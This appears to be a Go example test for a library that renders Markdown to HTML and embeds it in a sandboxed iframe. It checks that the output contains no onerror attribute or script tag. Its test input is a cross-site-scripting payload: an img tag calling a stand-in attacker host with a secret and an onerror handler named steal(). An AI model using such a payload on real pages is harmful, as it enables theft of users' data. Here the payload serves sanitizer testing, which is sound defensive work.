package iframe_test

import (
	"fmt"
	"strings"

	"github.com/bailey-go/bailey/iframe"
	"github.com/bailey-go/bailey/iframe/markdown"
)

// For a server, or a page without scripts: Frame returns the whole element.
func ExampleNewSrcdoc() {
	r, err := markdown.New(markdown.Options{})
	if err != nil {
		fmt.Println(err)
		return
	}
	html, _, err := r.Render([]byte("# Report\n\n<img src=https://evil.example/?secret onerror=steal()>Fine.\n"))
	if err != nil {
		fmt.Println(err)
		return
	}
	doc, err := iframe.NewSrcdoc(html, iframe.SrcdocOptions{Label: "The model's answer", Lang: "en"})
	if err != nil {
		fmt.Println(err)
		return
	}
	frame := doc.Frame()
	fmt.Println(strings.HasPrefix(frame, "<iframe "), strings.Contains(frame, "onerror"), strings.Contains(frame, "<script"))
	// Output: true false false
}
